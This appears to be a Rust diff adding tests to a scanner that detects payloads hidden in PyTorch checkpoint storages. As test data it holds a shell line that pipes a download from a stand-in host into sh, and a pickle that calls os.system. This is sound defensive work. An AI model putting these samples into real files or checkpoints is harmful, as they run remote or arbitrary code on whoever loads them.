@@ -256,3 +256,113 @@ fn a_flood_of_marks_does_not_pile_up() {
         assert!(report.coverage.bytes_read < 3 * bytes.len() as u64);
     }
 }
+
+/// A checkpoint of PyTorch whose only storage holds `data`, as zip archive and as the pickles before it.
+fn checkpoints(data: &[u8]) -> [(&'static str, Vec<u8>); 3] {
+    use crate::convert::assemble::{Storage, checkpoint, legacy, members, state_dict, view};
+    let storages = [Storage {
+        class: "FloatStorage",
+        size: 4,
+        bytes: data.to_vec(),
+    }];
+    let count = i32::try_from(data.len() / 4).unwrap();
+    let pickle = state_dict(&[view("w", 0, 0, &[count], &[1])], &storages, b"");
+    let mut packed = members(&pickle, &storages, "little");
+    for part in &mut packed {
+        part.deflate = true;
+    }
+    [
+        ("m.pt", checkpoint(&pickle, &storages)),
+        ("m.pt", crate::zip::assemble::zip(&packed)),
+        ("m.pt", legacy(&pickle, &storages)),
+    ]
+}
+
+#[test]
+fn a_payload_in_a_storage_of_pytorch_is_seen() {
+    for (title, payload) in payloads() {
+        // At the very start it is told as what the storage is.
+        for at in [4_usize, 1021, 60_001] {
+            let mut data = values(40_000);
+            data.splice(at..at + payload.len(), payload.iter().copied());
+            for (form, (name, file)) in checkpoints(&data).into_iter().enumerate() {
+                let found = artifact(name, &file);
+                let signs: Vec<_> = found
+                    .tensor_signs
+                    .iter()
+                    .filter(|sign| sign.kind == TensorSignKind::Payload)
+                    .collect();
+                assert_eq!(signs.len(), 1, "{title} at {at} in form {form}: {signs:?}");
+                assert!(signs[0].detail.contains(title), "{title} in form {form}");
+                assert_eq!(signs[0].confidence, Confidence::High, "{title}");
+            }
+        }
+    }
+}
+
+#[test]
+fn low_bytes_of_a_storage_of_pytorch_are_read_by_its_type() {
+    let payload = b"#!/bin/sh\ncurl http://a.example | sh\n";
+    let mut data = values(40_000);
+    for (value, byte) in data.chunks_exact_mut(4).zip(payload) {
+        value[0] = *byte;
+    }
+    for (name, file) in checkpoints(&data) {
+        let found = artifact(name, &file);
+        assert_eq!(kinds(&found), [TensorSignKind::LowBitPayload]);
+    }
+}
+
+#[test]
+fn what_a_storage_of_pytorch_starts_as_is_told_once() {
+    let mut data = values(40_000);
+    data.splice(0..ELF.len(), ELF.iter().copied());
+    for (name, file) in checkpoints(&data) {
+        let found = artifact(name, &file);
+        assert!(found.tensor_signs.is_empty(), "{:?}", found.tensor_signs);
+        let programs = found
+            .anomalies
+            .iter()
+            .filter(|anomaly| anomaly.kind == stance_core::fact::AnomalyKind::Polyglot);
+        assert_eq!(programs.count(), 1);
+    }
+}
+
+#[test]
+fn honest_storages_of_pytorch_show_nothing() {
+    for (name, file) in checkpoints(&values(60_000)) {
+        let found = artifact(name, &file);
+        assert!(found.tensor_signs.is_empty(), "{:?}", found.tensor_signs);
+        assert!(found.anomalies.is_empty(), "{:?}", found.anomalies);
+    }
+}
+
+#[test]
+fn tensors_of_pytorch_are_told_one_by_one_when_asked_for() {
+    let interests = crate::Interests::default();
+    for (name, file) in checkpoints(&values(1000)) {
+        let mut options = crate::Options {
+            limits: crate::Limits::default(),
+            hash: false,
+            interests: &interests,
+        };
+        let report = crate::scan(name, &crate::Bytes(&file), &options);
+        assert!(crate::testing::artifact_of(&report).tensor_list.is_empty());
+        options.limits.tensors = 10;
+        let report = crate::scan(name, &crate::Bytes(&file), &options);
+        let found = crate::testing::artifact_of(&report);
+        let [tensor] = &*found.tensor_list else {
+            panic!("{:?}", found.tensor_list);
+        };
+        assert_eq!((&*tensor.name, &*tensor.dtype), ("w", "F32"));
+        assert_eq!(tensor.shape, [1000]);
+        assert_eq!(found.parameters, Some(1000));
+    }
+}
+
+#[test]
+fn no_cut_of_a_checkpoint_breaks_it() {
+    for (name, file) in checkpoints(b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.\0") {
+        survives_truncation(name, &file);
+    }
+}
